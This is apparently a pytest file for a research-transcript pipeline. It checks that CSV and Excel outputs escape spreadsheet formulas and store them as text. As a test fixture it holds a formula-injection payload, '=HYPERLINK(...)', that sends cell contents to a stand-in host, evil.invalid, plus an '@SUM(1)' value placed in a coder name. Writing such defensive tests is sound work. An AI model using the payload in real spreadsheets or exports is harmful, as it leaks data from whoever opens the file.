"""Nothing we write can run as a formula when a researcher opens it in Excel: a returned transcript
that starts with `=HYPERLINK(...)` and a coder named `@SUM(1)` end up as text in every table."""

from __future__ import annotations

import csv
import dataclasses
import zipfile
from pathlib import Path

import openpyxl
import pytest

from tasks.core.sheets import TRIGGERS
from tasks.core.study import Study
from tasks.core.transcripts import load_transcript, save_transcript
from tests.tasks.coding_fixtures import R01_CODINGS, install_fakes, run_pipeline, write_study

HYPERLINK = '=HYPERLINK("http://evil.invalid/?leak="&A1,"Data gives insight into problems in the neighbourhood")'


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    root = tmp_path / "study"
    with pytest.MonkeyPatch.context() as patch:
        install_fakes(patch)
        study = write_study(root)
        path = study.catalog.approved("R01")
        transcript = load_transcript(path, "approved R01")
        segments = tuple(s if s.segment_id != "R01-0003" else dataclasses.replace(s, text=HYPERLINK) for s in transcript.segments)
        save_transcript(path, dataclasses.replace(transcript, segments=segments))
        (root / "codings" / "R01.csv").write_text(R01_CODINGS.replace(",CD,", ",@SUM(1),"), encoding="utf-8")
        manifests = run_pipeline(root)
    assert manifests["aggregation"].status == "done", manifests["aggregation"].detail
    return root


def risky(out: Path) -> list[str]:
    """The cells of every CSV file under `out` that Excel would run as a formula."""
    found = []
    for path in sorted(out.rglob("*.csv")):
        with open(path, encoding="utf-8", newline="") as handle:
            for row in csv.reader(handle):
                found += [f"{path.name}: {cell[:30]}" for cell in row if cell.startswith(TRIGGERS) and not is_number(cell)]
    return found


def test_no_csv_cell_we_write_can_run_as_a_formula(hostile: Path) -> None:
    assert risky(hostile / "out") == []
    quotes = (hostile / "out" / "results" / "quotes.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in quotes
    agreement = (hostile / "out" / "results" / "agreement_disagreements.csv").read_text(encoding="utf-8")
    assert agreement.splitlines()[1] == "R01,R01-0002,'@SUM(1),,AB,silos,silos"


def test_the_workbook_holds_text_not_formulas(hostile: Path) -> None:
    path = hostile / "out" / "results" / "results.xlsx"
    with zipfile.ZipFile(path) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)
    cells = [cell for sheet in openpyxl.load_workbook(path).worksheets for row in sheet.iter_rows() for cell in row]
    texts = [cell.value for cell in cells if isinstance(cell.value, str) and cell.value.startswith("=HYPERLINK")]
    assert texts and all(cell.data_type == "s" for cell in cells if cell.value in texts)


def test_the_coder_keeps_their_name_inside_the_tool(hostile: Path) -> None:
    from tasks.core.catalog.coded import read_coded

    coders = set(read_coded(Study.at(hostile), ["R01"])["coder"])
    assert coders == {"AB", "@SUM(1)"}


def test_the_command_keeps_a_formula_as_text_and_out_of_prefect(copied: Path) -> None:
    """As a process, from a returned transcript whose segment starts with =HYPERLINK (the edit tracked
    under the respondent's name) and a coder @SUM(1): exit 0, R02 and R03 untouched, every table
    safe, the respondent's name nowhere, the formula in no log and not in Prefect's database."""
    from tasks.protocol import execute_respondent
    from tests.reliability.contained import DONE, NAME, assert_contained, personal_data
    from tests.tasks.review_fixtures import WordEdit

    reviews = copied / "reviews.csv"
    text = reviews.read_text(encoding="utf-8")
    (copied / "out" / "04_review" / "approved" / "R01.json").unlink()
    reviews.write_text(text.replace("R01,approved,2022-03-01,", "R01,,,"), encoding="utf-8")
    execute_respondent(Study.at(copied), "review", "R01")  # the review document goes out to R01
    study = Study.at(copied)
    WordEdit(study.catalog.outbox("R01"), author=NAME).retype("R01-0001", HYPERLINK).save(study.catalog.returned_review("R01"))
    reviews.write_text(text.replace("R01,approved,", "R01,approved_with_changes,"), encoding="utf-8")
    with open(copied / "codings" / "R01.csv", "a", encoding="utf-8") as codings:
        codings.write("R01-0001,data_gives_insight,@SUM(1)\n")
    assert_contained(
        copied, "run", code=DONE, others=("R02", "R03"), markers=[*personal_data(copied, ["R02", "R03"]), NAME],
        private=[*personal_data(copied, ["R01"]), "evil.invalid"],  # R01's name is on their own review document only
    )
    assert risky(copied / "out") == []
    assert "'=HYPERLINK" in (copied / "out" / "results" / "quotes.csv").read_text(encoding="utf-8")
